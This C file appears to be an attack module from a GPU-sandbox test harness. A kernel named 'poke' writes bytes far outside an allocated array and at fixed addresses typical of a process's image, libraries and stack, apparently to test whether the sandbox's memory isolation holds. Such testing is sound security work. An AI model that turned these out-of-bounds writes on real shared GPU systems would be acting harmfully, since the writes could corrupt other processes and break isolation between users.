/* Tries to write out of bounds by kernels: below and above an array, at the addresses of the device process, of its
 * library, of its stack, of the window, and at none. Gains the record, if it lies in reach. */
#include <stdint.h>

static const char source[] =
    "extern \"C\" __global__ void poke(unsigned char *base, long long offset, long long step, int many)\n"
    "{ for (int i = 0; i < many; i++) base[offset + i * step] = 0x5a; }\n";

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    lab_function poke;
    lab_array *array;
    const int64_t bases[] = {0,       -(1 << 12), -(1 << 16), -(1 << 20), -(1 << 24),
                             1 << 12, 1 << 20,    1 << 24,    1 << 28,    -(1 << 30)};
    const uint64_t places[] = {0x400000,       0x555555554000, 0x7e8000000000,
                               0x7f0000000000, 0x7ffff7d00000, 0x7ffffffde000};
    for (int i = 0; i < 16; i++) {
        int many = i % 2 ? 4096 : 1 << 20;
        if (lab_module_load_source(&module, source, "poke") || lab_module_get_function(&poke, module, "poke")) break;
        if (lab_array_zeros(&array, LAB_UINT8, LAB_SHAPE(64))) break;
        if (i < 10)
            lab_launch(poke, LAB_DIM(1), LAB_DIM(1), 0, NULL,
                       LAB_ARGS(array, bases[i], (int64_t)(i % 3 ? 1 : -1), many));
        else
            lab_launch(poke, LAB_DIM(1), LAB_DIM(1), 0, NULL,
                       LAB_ARGS(array, (int64_t)(places[i - 10] - lab_array_data(array)), (int64_t)4096, many));
        lab_device_synchronize();
        lab_device_reset(0);
    }
    return LAB_SUCCESS;
}
